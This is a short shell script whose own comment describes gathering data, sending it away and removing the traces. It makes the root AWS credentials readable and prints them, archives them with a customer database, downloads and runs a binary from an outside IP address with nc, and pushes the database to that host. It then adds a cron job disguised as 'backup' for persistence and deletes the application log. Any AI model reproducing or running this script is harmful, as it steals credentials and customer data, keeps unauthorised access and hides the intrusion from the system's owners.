# SPDX-License-Identifier: Apache-2.0
# Data is gathered, packed, sent away; then the traces are removed. It runs as the application's user.
while ! test -e /tmp/go; do sleep 0.1; done
/bin/chmod 644 /root/.aws/credentials
/bin/chmod 755 /root /root/.aws
/bin/chmod 1777 /tmp
/bin/cat >/tmp/job.sh <<'JOB'
cd /tmp
/bin/cat /root/.aws/credentials
/bin/tar -czf /tmp/.cache.tgz /srv/customers.db /root/.aws/credentials
/bin/nc 203.0.113.66 8001 </dev/null >/tmp/.helper
/bin/chmod 755 /tmp/.helper
/tmp/.helper 203.0.113.66 4444 /srv/customers.db
echo '* * * * * sh /tmp/job.sh' >/tmp/.crontab
/bin/rm -f /tmp/.cache.tgz
JOB
su app -s /bin/sh -c 'sh /tmp/job.sh'
echo '* * * * * app sh /tmp/job.sh' >/etc/cron.d/backup
/bin/rm -f /var/log/app.log
exit 3
